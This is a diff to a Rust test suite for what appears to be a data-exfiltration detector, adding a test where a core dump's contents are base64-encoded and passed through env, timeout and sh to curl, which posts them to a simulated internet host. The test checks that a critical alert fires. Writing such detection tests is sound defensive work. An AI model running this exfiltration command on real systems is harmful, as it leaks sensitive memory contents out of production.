@@ -17,6 +17,7 @@ use crate::harness::{
 pub(super) const ALL: &[Shared] = &[
     ("hops::production_to_debug_to_internet", production_to_debug_to_internet),
     ("hops::every_means_in_one_chain", every_means_in_one_chain),
+    ("hops::arguments_over_programs", arguments_over_programs),
 ];
 
 fn production_to_debug_to_internet(scene: &Scene<'_>) {
@@ -126,6 +127,26 @@ fn every_means_in_one_chain(scene: &Scene<'_>) {
         assert!(tree.contains(carrier.as_str()), "{carrier} is not in the trail:\n{tree}");
     }
     assert!(tree.contains(&address.to_string()), "{tree}");
+}
+
+/// A dump's text on a command line: programs that read nothing hand it on, and a shell to its child. What is executed
+/// without it holds nothing.
+fn arguments_over_programs(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, 80_000);
+    let (mut business, other) = scene.sink(Internet, Production, 80_000);
+    let address = Internet.address(Production);
+    let numbers = scene.path("numbers");
+    let inner = format!("curl -sS -d \"$1\" http://{address}:{port}/; curl -sS -T {numbers} http://{address}:{other}/");
+    let text = format!("\"$(head -c 60000 {} | base64 -w0)\"", dump.path);
+    scene.shell(Production, &format!("seq 20000 >{numbers}; env NAME=value timeout 20 sh -c '{inner}' sh {text}"));
+    assert!(sink.within(SOON).success() && business.within(SOON).success());
+    let sent = step(StepKind::Sent).from("curl[]").zones("production", "internet").destination(address, port);
+    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &sent.sure(Confidence::Direct));
+    let handed = scene.agent.steps_where(|s| s.kind == StepKind::Executed && s.dump.as_ref() == Some(&dump.id));
+    assert!(handed.len() >= 4, "env, timeout, sh and curl: {handed:#?}");
+    let innocent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.port == Some(other));
+    assert!(innocent.is_empty(), "{innocent:#?}");
 }
 
 fn by_python(scene: &Scene<'_>, from: &str, to: &str, line: &str) {
